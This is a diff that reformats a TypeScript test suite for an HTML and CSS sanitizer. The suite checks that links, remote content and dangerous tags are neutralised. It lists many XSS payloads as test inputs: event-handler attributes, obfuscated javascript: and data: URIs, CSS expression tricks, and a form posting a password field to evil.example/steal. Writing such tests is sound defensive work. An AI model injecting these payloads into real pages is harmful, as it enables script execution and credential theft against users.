@@ -9,12 +9,31 @@ interface El {
 /** Every element of the output as a browser-like parser sees it. */
 function elements(html: string): El[] {
   const out: El[] = [];
-  const p = new Parser({ onopentag: (name, attribs) => out.push({ name, attribs }) }, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true });
+  const p = new Parser(
+    { onopentag: (name, attribs) => out.push({ name, attribs }) },
+    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
+  );
   p.write(html);
   p.end();
   return out;
 }
-const DANGEROUS_TAGS = ["script", "iframe", "object", "embed", "form", "base", "meta", "svg", "math", "input", "button", "textarea", "frame", "frameset", "applet"];
+const DANGEROUS_TAGS = [
+  "script",
+  "iframe",
+  "object",
+  "embed",
+  "form",
+  "base",
+  "meta",
+  "svg",
+  "math",
+  "input",
+  "button",
+  "textarea",
+  "frame",
+  "frameset",
+  "applet",
+];
 function assertInert(html: string) {
   for (const el of elements(html)) {
     expect(DANGEROUS_TAGS).not.toContain(el.name);
@@ -34,15 +53,27 @@ const XSS_VECTORS: Array<[string, string]> = [
   ["img onerror", `<img src=x onerror="alert(1)">`],
   ["event handlers on anything", `<div onclick="alert(1)" onmouseover=alert(2)>x</div><body onload=alert(3)>`],
   ["javascript: href", `<a href="javascript:alert(1)">x</a>`],
-  ["obfuscated javascript: href", `<a href="jav&#x61;script:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href=" JaVaScRiPt:alert(1)">c</a><a href="&#106;avascript:alert(1)">d</a>`],
-  ["vbscript and data: hrefs", `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>`],
+  [
+    "obfuscated javascript: href",
+    `<a href="jav&#x61;script:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href=" JaVaScRiPt:alert(1)">c</a><a href="&#106;avascript:alert(1)">d</a>`,
+  ],
+  [
+    "vbscript and data: hrefs",
+    `<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>`,
+  ],
   ["svg onload", `<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a></svg>`],
   ["math and xlink", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`],
-  ["style expression", `<div style="width: expression(alert(1)); color: red">x</div><p style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">y</p>`],
+  [
+    "style expression",
+    `<div style="width: expression(alert(1)); color: red">x</div><p style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">y</p>`,
+  ],
   ["css escapes", `<div style="background:u\\72 l(javascript:alert(1)); width: e\\78 pression(alert(1))">x</div>`],
   ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>`],
   ["base tag", `<base href="https://evil.example/"><a href="x">x</a>`],
-  ["iframe object embed", `<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">`],
+  [
+    "iframe object embed",
+    `<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">`,
+  ],
   ["form", `<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>`],
   ["img data:text/html src", `<img src="data:text/html,<script>alert(1)</script>">`],
   ["style tag breakout", `<style>p{color:red}\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e</style><p>x</p>`],
@@ -67,19 +98,26 @@ describe("XSS vectors are neutralised", () => {
   });
 
   test("meta refresh and base are removed entirely", () => {
-    const r = sanitizeHtml(`<head><meta http-equiv="refresh" content="0;url=https://x"><base href="https://evil/"><title>T</title></head><body><p>x</p></body>`, { remote: "strip" });
+    const r = sanitizeHtml(
+      `<head><meta http-equiv="refresh" content="0;url=https://x"><base href="https://evil/"><title>T</title></head><body><p>x</p></body>`,
+      { remote: "strip" },
+    );
     expect(r.html).toBe("<div><p>x</p></div>");
   });
 });
 
 describe("links", () => {
   test("links open in a new tab without opener or referrer", () => {
-    const [a] = elements(sanitizeHtml(`<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">x</a>`, { remote: "strip" }).html);
+    const [a] = elements(
+      sanitizeHtml(`<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">x</a>`, { remote: "strip" }).html,
+    );
     expect(a).toEqual({ name: "a", attribs: { href: "https://example.com/x?a=1&b=2", target: "_blank", rel: "noopener noreferrer" } });
   });
 
   test("mailto and tel hrefs stay, relative hrefs go", () => {
-    const els = elements(sanitizeHtml(`<a href="mailto:a@example.com">m</a><a href="tel:+1555">t</a><a href="/v1/messages">r</a>`, { remote: "strip" }).html);
+    const els = elements(
+      sanitizeHtml(`<a href="mailto:a@example.com">m</a><a href="tel:+1555">t</a><a href="/v1/messages">r</a>`, { remote: "strip" }).html,
+    );
     expect(els.map((e) => e.attribs.href ?? null)).toEqual(["mailto:a@example.com", "tel:+1555", null]);
   });
 });
@@ -130,13 +168,18 @@ describe("remote content", () => {
     expect(r.remote_blocked).toBe(1); // the protocol-relative image: no scheme, so never loaded
     const els = elements(r.html);
     expect(els.filter((e) => e.name === "img").map((i) => i.attribs.src)).toContain("https://tracker.example/open.gif?u=1");
-    expect(els.filter((e) => e.name === "link")).toEqual([{ name: "link", attribs: { rel: "stylesheet", href: "https://cdn.example/s.css" } }]);
+    expect(els.filter((e) => e.name === "link")).toEqual([
+      { name: "link", attribs: { rel: "stylesheet", href: "https://cdn.example/s.css" } },
+    ]);
     expect(r.html).toContain('@import url("https://cdn.example/more.css")');
     expect(r.html).toContain("url(https://cdn.example/hero.png)");
   });
 
   test("cleanCss counts every remote reference", () => {
-    const { css, blocked } = cleanCss(`a{background:url(https://x/1.png)} b{background-image:image-set("https://x/2.png" 1x)} @import "https://x/c.css";`, "strip");
+    const { css, blocked } = cleanCss(
+      `a{background:url(https://x/1.png)} b{background-image:image-set("https://x/2.png" 1x)} @import "https://x/c.css";`,
+      "strip",
+    );
     expect(blocked).toBe(3);
     expect(css).not.toContain("https://");
   });
